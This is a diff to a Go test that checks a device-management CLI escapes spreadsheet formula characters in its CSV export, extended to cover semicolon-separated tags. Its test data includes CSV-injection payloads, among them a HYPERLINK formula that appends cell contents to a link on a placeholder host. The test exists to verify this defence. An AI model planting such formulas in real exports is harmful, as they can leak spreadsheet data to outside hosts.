@@ -843,6 +843,12 @@ func TestCampaignPlanCellsAreNotFormulas(t *testing.T) {
 		LastSeen: time.Now().Add(-3000 * 24 * time.Hour), RbacGroupName: "@SUM(1+1)",
 		MachineTags: []string{`=HYPERLINK("http://example.invalid/?"&A1,"open")`, "Lab"},
 	})
+	// Opened where the list separator is ';', each tag begins a cell.
+	second := fmt.Sprintf("%040x", 7001)
+	e.sim.AddMachine(e.tenantID, mdesim.Machine{
+		ID: second, ComputerDNSName: "pc-7001.contoso.local", OSPlatform: "Windows11", HealthStatus: "Inactive",
+		LastSeen: time.Now().Add(-2999 * 24 * time.Hour), MachineTags: []string{"Lab", "-2+3", `=HYPERLINK("http://example.invalid")`},
+	})
 	out := filepath.Join(e.dir, "formulas.csv")
 	if code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out); code != exitOK {
 		t.Fatalf("exit %d: %s", code, stderr)
@@ -853,10 +859,15 @@ func TestCampaignPlanCellsAreNotFormulas(t *testing.T) {
 	if !slices.Equal(row, want) {
 		t.Errorf("row %q,\nwant %q", row, want)
 	}
+	if got, want := rows[2][6], `Lab;'-2+3;'=HYPERLINK("http://example.invalid")`; rows[2][0] != second || got != want {
+		t.Errorf("row %q: tags %q, want %q", rows[2], got, want)
+	}
 	for _, r := range rows[1:] {
 		for _, cell := range r {
-			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-				t.Errorf("row %q: cell %q would be read as a formula", r, cell)
+			for _, part := range strings.Split(cell, ";") {
+				if part != "" && strings.ContainsRune("=+-@\t\r", rune(part[0])) {
+					t.Errorf("row %q: cell %q would be read as a formula", r, cell)
+				}
 			}
 		}
 	}
